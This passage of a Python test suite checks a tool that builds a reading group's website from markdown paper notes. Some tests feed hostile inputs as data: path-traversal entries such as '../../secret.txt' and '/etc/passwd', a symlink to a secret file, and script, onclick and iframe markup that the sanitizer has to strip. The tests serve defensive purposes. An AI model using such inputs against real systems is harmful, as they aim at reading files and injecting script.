    assert "## Head {: .cls #ok }" in out and "<div>multi</div>" in out and "&lt;iframe" in out
    assert "a comment" not in out and "<https://arxiv.org/abs/1> <a@b.org>" in out     # autolinks stay
    html = _site_markdown(out)
    info = parse_html(html)
    assert page_problems(info) == [] and not any(i.startswith("__") for i in info.ids)
    assert "<script" not in html and "onclick" not in html.replace('&#123;: onclick="y" &#125;', "")
    assert "<iframe" not in html


# ---- the low rows -------------------------------------------------------------------------------------

def test_low_a_long_run_of_spaces_in_a_reference_is_linear():
    import time

    from paperclub.bind import ref_problems, refs, render_refs

    t0 = time.process_time()
    for text in ("{{ name:" + " " * 50_000, "{{ name:" + " " * 50_000 + "x", "{{!" + " " * 50_000, "{{ " * 20_000):
        assert refs(text) == [] and ref_problems(text, "x.md", None) == [] and render_refs(text, {}, "x") == text
    assert time.process_time() - t0 < 2.0


def test_low_references_inside_code_are_shown_as_written():
    from paperclub.bind import refs, render_refs

    text = "ours {{ acc:.1% }}, written `{{ acc }}`\n```\n{{ acc:.2f }} {{ unknown }}\n```\n{{! 75 % }}"
    assert render_refs(text, {"acc": 0.5}, "x.md") == "ours 50.0%, written `{{ acc }}`\n```\n{{ acc:.2f }} {{ unknown }}\n```\n75 %"
    assert [r.name for r in refs(text)] == ["acc"]


@pytest.mark.parametrize("fmt, message", [('"c"', "not a Python format spec for a number"),
                                          ('"s"', "not a Python format spec for a number"),
                                          ('"999999999.3f"', "a width of at most 40 characters"),
                                          ('".99999999f"', "a precision of at most 40 characters")])
def test_low_format_specs_that_cannot_show_a_figure_fail_check(project_factory, fmt, message):
    root = project_factory(["fmt"])
    p = root / "papers/fmt.md"
    p.write_text(p.read_text().replace('fmt: ".3f"', f"fmt: {fmt}"))
    problems = "\n".join(check_project(Project(root)).problems)
    assert "papers/fmt.md: field 'claims[0].fmt'" in problems and message in problems, problems
    bad = p.read_text().replace(f"fmt: {fmt}", 'fmt: ".3f"').replace("{{ slope_error:.3f }}", "{{ slope_error:c }}")
    p.write_text(bad)
    assert "{{ slope_error:c }}: not a Python format spec" in "\n".join(check_project(Project(root)).problems)


def test_low_infinite_expect_far_dates_and_huge_integers(project_factory):
    from paperclub.papers import format_value

    root = project_factory(["inf"])
    p = root / "papers/inf.md"
    text = p.read_text()
    expect = next(ln for ln in text.splitlines() if "expect:" in ln).split("expect:")[1].strip()
    p.write_text(text.replace(expect, '"< 1e400"', 1).replace("session: {date: null}", "session: {date: 9999-12-31}"))
    problems = "\n".join(check_project(Project(root)).problems)
    assert "field 'claims[0].expect': Value error, the number must be finite" in problems
    assert "field 'session.date': Value error, expected a date between 1900 and 2100 (got 9999-12-31)" in problems
    assert format_value(10**400) == "1.00e+400" and format_value(10**400, ".1%").endswith("%")
    assert format_value(2**2000, ".2f").endswith(".00") and format_value(3.0, "d") == "3"


def test_low_figure_names_in_the_order_file_stay_inside_figures(tmp_path):
    from paperclub.rundir import RunDir

    run = RunDir(tmp_path / "run")
    run.figures_dir.mkdir(parents=True)
    (run.figures_dir / "ok.png").write_bytes(b"png")
    (tmp_path / "secret.txt").write_text("secret")
    (run.figures_dir / "link.png").symlink_to(tmp_path / "secret.txt")
    run.order_file.write_text("ok.png\n../../secret.txt\n/etc/passwd\nlink.png\n.\n..\nok.png\n")
    assert [f.name for f in run.figures()] == ["ok.png"]


@pytest.mark.parametrize("port", ["0", "99999", "-1", "http"])
def test_low_port_out_of_range_is_one_line(project_factory, port, capsys):
    root = project_factory(["p"])
    with pytest.raises(SystemExit) as exit_:
        main(["--root", str(root), "serve", "--port", port])
    assert exit_.value.code == 2
    err = capsys.readouterr().err.strip().splitlines()[-1]
    assert "argument --port: expected a port" in err


def test_low_force_outside_only_is_named_as_such(project_factory, capsys):
    root = project_factory(["toy", "gan"])
    assert main(["--root", str(root), "build", "--only", "toy", "--force", "gan"]) == 1
    assert capsys.readouterr().err == ("error: --force gan: not built by this command (--only toy); add it to --only "
                                       "or leave it out of --force\n")


@pytest.mark.parametrize("slug, message", [("numpy", "would hide the module 'numpy'"), ("torch", "'torch'"),
                                           ("json", "'json'"), ("paperclub", "'paperclub'"),
                                           ("a" * 250, "--slug: at most 60 characters (got 250)")])
def test_low_slugs_that_shadow_a_module_or_are_too_long_are_refused(project_factory, slug, message, capsys):
    root = project_factory(["ok"])
    assert main(["--root", str(root), "new", "T", "--slug", slug]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: --slug") and message in err and err.count("\n") == 1
    assert not (root / "notebooks" / f"{slug}.py").exists()


def test_low_a_paper_file_whose_notebook_shadows_a_module_fails_check(project_factory):
    root = project_factory(["ok"])
    for f in (root / "papers/ok.md", root / "notebooks/ok.py", root / "slides/ok.md"):
        f.rename(f.with_name(f.name.replace("ok", "scipy")))
    (root / "minimal_impls/ok.py").rename(root / "minimal_impls/scipy.py")
    problems = "\n".join(check_project(Project(root)).problems)
    assert "papers/scipy.md: the slug 'scipy' makes notebooks/scipy.py, which hides the module 'scipy'" in problems


def test_low_notebooks_never_overwrites_an_edited_ipynb(project_factory, capsys):
    import jupytext

    root = project_factory(["nbk"])
    args = ["--root", str(root), "notebooks"]
    assert main(args) == 0
    ipynb = root / "notebooks/nbk.ipynb"
    assert "wrote notebooks/nbk.ipynb" in capsys.readouterr().out
    assert main(args) == 0 and "up to date" in capsys.readouterr().out
    py = root / "notebooks/nbk.py"
    py.write_text(py.read_text() + "\n# %%\nprint('added in the .py')\n")
    assert main(args) == 0 and "wrote" in capsys.readouterr().out              # not edited: follows the .py
    nb = jupytext.read(ipynb)
    nb.cells[-1].source = "print('edited in Jupyter')"
    jupytext.write(nb, ipynb)
    py.write_text(py.read_text() + "\n# %%\nprint('more in the .py')\n")
    assert main(args) == 1
    assert "kept notebooks/nbk.ipynb: it has edits that nbk.py does not have" in capsys.readouterr().err
    assert "edited in Jupyter" in ipynb.read_text()


def test_low_read_only_or_unreadable_folders_give_one_line(project_factory, monkeypatch, capsys):
    root = project_factory(["ro"])

    def denied(*a, **k):
        raise PermissionError(13, "Permission denied", str(root / "site"))
    monkeypatch.setattr(build_mod, "build", denied)
    assert main(["--root", str(root), "build"]) == 1
    assert capsys.readouterr().err == f"error: {root / 'site'}: Permission denied\n"


def test_low_swap_is_atomic_readable_and_removes_what_killed_builds_left(tmp_path):
    import os
    import stat as st

    site = tmp_path / "site"
    site.mkdir()
    (site / build_mod.MARKER).write_text("x")
    (site / "old.html").write_text("old")
    (site / "ro").mkdir()
    (site / "ro/f.txt").write_text("x")
    (site / "ro").chmod(0o500)                                           # a read-only folder inside the site
    killed = tmp_path / ".site.new-ab12cd34"                              # a SIGKILLed build's half site
    killed.mkdir()
    (killed / "index.html").write_text("half")
    mine = tmp_path / ".site.new-mine"                                   # not a name paperclub makes: kept
    mine.mkdir()
    (mine / "keep.txt").write_text("keep")
    build_mod.recover_swap(site)
    assert not killed.exists() and (mine / "keep.txt").exists()
    new = tmp_path / ".site.new-ef56gh78"
    new.mkdir()
    new.chmod(0o700)                                                      # what mkdtemp makes
    (new / "index.html").write_text("new")
    old_umask = os.umask(0o022)
    try:
        build_mod.swap_in(new, site)
    finally:
        os.umask(old_umask)
    assert (site / "index.html").read_text() == "new" and not (site / "old.html").exists()
    assert st.S_IMODE(site.stat().st_mode) == 0o755                       # a web server can read it
    assert sorted(p.name for p in tmp_path.iterdir()) == [".site.new-mine", "site"]


def test_low_exchange_swaps_two_folders_in_one_step(tmp_path):
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    (a / "x").write_text("a")
    (b / "x").write_text("b")
    if not build_mod._exchange(a, b):
        pytest.skip("no renameat2 here: the two-rename swap and recover_swap are used")
    assert (a / "x").read_text() == "b" and (b / "x").read_text() == "a"


def test_low_a_symlinked_site_is_refused_not_replaced(project_factory, tmp_path):
    root = project_factory(["ln"])
    web = tmp_path / "www"
    web.mkdir()
    (web / build_mod.MARKER).write_text("x")                              # even a paperclub site behind it
    (root / "site").symlink_to(web, target_is_directory=True)
    with pytest.raises(PaperclubError, match=r"^--site .*: is a symbolic link \(to .*www\); paperclub replaces"):
        build_mod.check_target(Project(root), root / "site")
    with pytest.raises(PaperclubError, match="symbolic link"):
        build_mod.swap_in(tmp_path, root / "site")
    assert (root / "site").is_symlink() and (web / build_mod.MARKER).exists()


@pytest.mark.slow
def test_row1_a_real_build_with_relative_folders_beside_a_home_loses_nothing(project_factory, tmp_path, monkeypatch):
    """End to end: `paperclub build --site out/site --cache pc-cache` from a folder holding a fake home builds
    there, marks both folders as its own, and every file of the home is still there; a second build reuses
    them; `--cache .` from the home is refused."""
    root = project_factory(["rel"])
    work = tmp_path / "work"
    home = _fake_home(work)
    before = _tree(home)
    monkeypatch.chdir(work)
    args = ["--root", str(root), "build", "--site", "out/site", "--cache", "pc-cache", "--today", "2026-11-23"]
    assert main(args) == 0
    assert (work / "out/site/index.html").exists() and (work / "out/site" / build_mod.MARKER).exists()
    assert (work / "pc-cache/rel/metrics.json").exists()
    assert main(args) == 0                                   # its own folders now: replaced, reused
    monkeypatch.chdir(home)
    assert main(["--root", str(root), "build", "--cache", "."]) == 1
    assert _tree(home) == before


def test_the_sanitizer_leaves_the_season_s_notes_exactly_as_written():
    """The allowlist is not a rewrite: every paper's notes (code, math, links, attribute lists) pass unchanged."""
    from paperclub.sanitize import notes_markdown

    for f in sorted((Path(__file__).resolve().parent.parent / "papers").glob("*.md")):
        body = parse_paper(f).body
        assert notes_markdown(body) == body, f.name
